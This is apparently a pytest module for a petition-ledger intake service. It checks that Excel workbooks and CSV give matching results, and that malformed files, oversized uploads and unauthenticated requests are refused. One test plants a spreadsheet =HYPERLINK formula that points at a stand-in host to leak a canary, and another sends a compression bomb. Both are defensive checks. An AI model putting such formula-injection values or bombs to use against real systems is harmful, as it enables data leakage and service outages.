"""The ledger as a workbook on real servers: the same door, the same report, the same numbers as from a CSV."""

import csv
import io
from collections.abc import Iterator
from datetime import date
from typing import Any

import httpx
import pytest

from services.installation import Installation
from services.intake.doors.ledgers import XLSX
from services.intake.ledgers.register import COLUMNS
from services.intake.returns import receipt
from services.runtime import keys, tokens
from tests.conftest import Install
from tests.rules.workbook import bomb, workbook

from .opened import base_url, petitions, refusal, traits

CANARY = "金丝雀拟名"


@pytest.fixture(scope="module")
def installation(install: Install) -> Installation:
    """One installation for all of them."""
    return install(replay=False)


@pytest.fixture
def http(installation: Installation) -> Iterator[httpx.Client]:
    """A client of intake's doors, with a clerk's token."""
    secret = keys.secret(installation.folder / "keys", tokens.SECRET)
    bearer = {"Authorization": f"Bearer {tokens.make(secret, 'office_petition', '430406', 1)}"}
    with httpx.Client(base_url=base_url(installation), timeout=40, headers=bearer) as client:
        yield client


def hand_in(http: httpx.Client, file: bytes, media_type: str = XLSX, **query: Any) -> httpx.Response:
    return http.post("/v1/430406/ledger", content=file, headers={"Content-Type": media_type}, params=query)


def rows(prefix: str, count: int) -> list[dict[str, Any]]:
    return [
        {
            "编号": f"{prefix}-{number}",
            "收件日期": date(2023, 3, number + 1),
            "渠道": "来访接待",
            "举报人": CANARY,
            "联系方式": 10010000000 + number,
            "所涉村社区": 430406003004,
            "反映内容": f"虚构第{number}件:{CANARY}",
        }
        for number in range(count)
    ]


def test_a_workbook_taken_in_twice_and_then_as_csv_gives_the_same_numbers(
    http: httpx.Client, installation: Installation
) -> None:
    given, before = rows("book", 12), petitions(installation)
    text = io.StringIO()
    writer = csv.DictWriter(text, COLUMNS, restval="")
    writer.writeheader()
    writer.writerows(given)
    dry = hand_in(http, workbook(given), dry_run=True).json()
    assert (dry["accepted"], dry["refused"], dry["rows"][0]) == (12, 0, {"row": 2, "serial": "book-0"})
    assert petitions(installation) == before
    first, again = hand_in(http, workbook(given)), hand_in(http, workbook(given))
    as_csv = hand_in(http, text.getvalue().encode(), "text/csv; charset=utf-8")
    assert first.status_code == 200
    assert first.json() == again.json() == as_csv.json()
    assert petitions(installation) == before + 12
    told = first.json()["rows"]
    assert len({row["petition"] for row in told}) == 12 and all(receipt.read(row["receipt"]) for row in told)
    found = traits(installation, told[4]["petition"])
    assert (found["received_on"], found["channel"], found["town"]) == ("2023-03-05", "visit", "430406003")


def test_good_rows_are_taken_in_beside_formulas(http: httpx.Client) -> None:
    given = rows("mixed", 3)
    given[1]["反映内容"] = f'=HYPERLINK("http://x.example/{CANARY}")'
    response = hand_in(http, workbook(given))
    assert response.status_code == 200 and CANARY not in response.text
    report = response.json()
    assert (report["accepted"], report["refused"]) == (2, 1)
    wrong = report["rows"][1]
    assert (wrong["row"], [fault["where"] for fault in wrong["errors"]]) == (3, ["反映内容"])


@pytest.mark.parametrize(
    "file",
    [b"", CANARY.encode(), b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, b"PK\x03\x04" + CANARY.encode()],
    ids=["empty", "text", "xls or encrypted", "broken"],
)
def test_what_is_no_workbook_is_refused(http: httpx.Client, file: bytes) -> None:
    assert refusal(hand_in(http, file), 422, silent=CANARY) == ("wrong_workbook", ["file"])


def test_a_bomb_is_refused_and_the_service_lives(http: httpx.Client, installation: Installation) -> None:
    before = petitions(installation)
    file = bomb(512 * 1_048_576)
    assert len(file) < 1_048_576
    assert refusal(hand_in(http, file), 422, silent=CANARY) == ("wrong_workbook", ["file"])
    assert http.get("/readyz").status_code == 200
    assert petitions(installation) == before


def test_a_workbook_over_the_limit_is_refused_unread(http: httpx.Client) -> None:
    assert hand_in(http, b"PK" * 17_000_000).status_code == 413


def test_only_a_clerk_hands_a_workbook_in(installation: Installation) -> None:
    with httpx.Client(base_url=base_url(installation), timeout=40) as stranger:
        assert refusal(hand_in(stranger, workbook([])), 401, silent=CANARY) == ("no_valid_token", [])
